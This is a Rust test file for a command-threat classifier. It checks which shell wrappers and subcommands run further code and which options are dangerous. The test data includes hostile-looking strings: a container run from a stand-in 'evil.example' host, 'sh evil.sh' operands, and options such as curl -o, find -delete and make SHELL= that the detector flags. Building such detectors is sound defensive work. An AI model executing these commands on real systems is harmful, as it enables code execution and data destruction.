//! The table, and what it says of commands.

use super::*;
use crate::threat::programs::operands::Operand;

#[test]
fn every_line_has_its_cells() {
    for line in TABLE.lines().filter(|line| !line.starts_with('#')) {
        assert_eq!(line.split('\t').count(), 4, "{line}");
    }
    let rows: Vec<_> = TABLE.lines().filter(|line| !line.starts_with('#')).skip(1).collect();
    assert!(rows.is_sorted());
    for line in lines() {
        let how = line.how.trim_end_matches(|it: char| it.is_ascii_digit()).trim_end();
        assert!(
            ["wrapper", "operand", "operands", "options", "leading options"].contains(&how),
            "{how}"
        );
        assert!(!line.added.is_empty() && !line.words.is_empty(), "{}", line.words);
        let starts = |option: &str| line.added.contains(option);
        if line.how.ends_with("options") {
            assert!(!line.options.is_empty(), "{}", line.words);
            assert!(line.options.split('|').any(starts), "{}: {}", line.words, line.added);
        }
    }
}

#[test]
fn commands_after_which_something_is_run() {
    for command in [
        "env",
        "xargs",
        "bash",
        "/bin/sh",
        "python3",
        "sudo",
        "npx",
        "find . -exec",
        "git -c",
        "sudo env",
        "env A=b",
        "timeout 5",
        "timeout 5 bash",
        "sudo -u root python3",
        "docker run",
        "kubectl exec",
        "bash -c",
        "xargs -n 1",
        "node -e",
        "npm exec",
        "python3.12",
        "A=b sudo",
        "sed",
        "sed -n",
        "make test",
        "make -j 4 test",
        "mvn test",
        "pip install requests",
        "hyperfine ls",
        "proxychains",
        "eatmydata",
        "proxychains4 sudo",
        "/lib64/ld-linux-x86-64.so.2",
        "gh extension exec",
        "asdf exec python",
        "uv run python",
        "uv run --with rich python",
        "docker exec web",
        "docker exec -u root web",
        "docker run alpine",
        "docker run --rm -v /:/x alpine",
        "perf stat",
        "perf record -o x",
        "opam exec --",
        "direnv exec .",
        "conda run -n base",
        "cross-env A=b",
        "bazel run",
    ] {
        assert!(!operands(command).is_empty(), "{command}");
    }
}

#[test]
fn commands_after_which_nothing_is_run() {
    for command in [
        "git status",
        "npm test",
        "python3 manage.py",
        "bash build.sh",
        "sudo git status",
        "find . -name",
        "ls",
        "timeout 5 git status",
        "docker ps",
        "env A=b git log",
        "uv run pytest",
        "bundle exec rspec",
        "docker exec web ls",
        "docker run --rm alpine ls",
        "perf stat ls",
        "opam exec -- ls",
        "cross-env A=b ls",
        "npm run build",
        "poetry run python manage.py",
        "",
    ] {
        assert_eq!(operands(command), [], "{command}");
    }
}

#[test]
fn programs_with_a_subcommand_that_runs_something() {
    for (command, expected) in [
        ("docker", "run evil.example/x sh"),
        ("docker compose", "run evil.example/x sh"),
        ("opam", "exec sh evil.sh"),
        ("/usr/bin/kubectl", "run x -- sh"),
        ("npm", "exec evil"),
        ("git submodule", "foreach sh evil.sh"),
    ] {
        let texts: Vec<_> = operands(command).iter().map(Operand::text).collect();
        assert!(texts.iter().any(|text| text == expected), "{command}: {texts:?}");
    }
}

#[test]
fn tools_that_are_a_program() {
    for (tool, program) in [
        ("kubectl_generic", Some("kubectl")),
        ("git_log", Some("git")),
        ("docker", Some("docker")),
        ("run_command", None),
        ("find_user", None),
        ("digital_git", None),
    ] {
        assert_eq!(named_by(tool), program, "{tool}");
    }
}

#[test]
fn options_that_do_harm() {
    for (command, option) in [
        ("git log", "--output=x"),
        ("git log main", "--output=x"),
        ("git", "-c x"),
        ("kubectl get", "-A"),
        ("/usr/bin/curl", "-o x"),
        ("find . -name", "-delete"),
        ("make test", "SHELL=x"),
        ("make test", "--eval=x"),
    ] {
        let options = options(command).unwrap();
        let pattern = re2::Pattern::new(&format!(r"\A(?:{})", options.pattern)).unwrap();
        assert!(pattern.is_match(option) && pattern.is_match(options.example), "{command}");
    }
    for command in ["git status", "ls", "npm", "echo"] {
        assert!(options(command).is_none(), "{command}");
    }
}
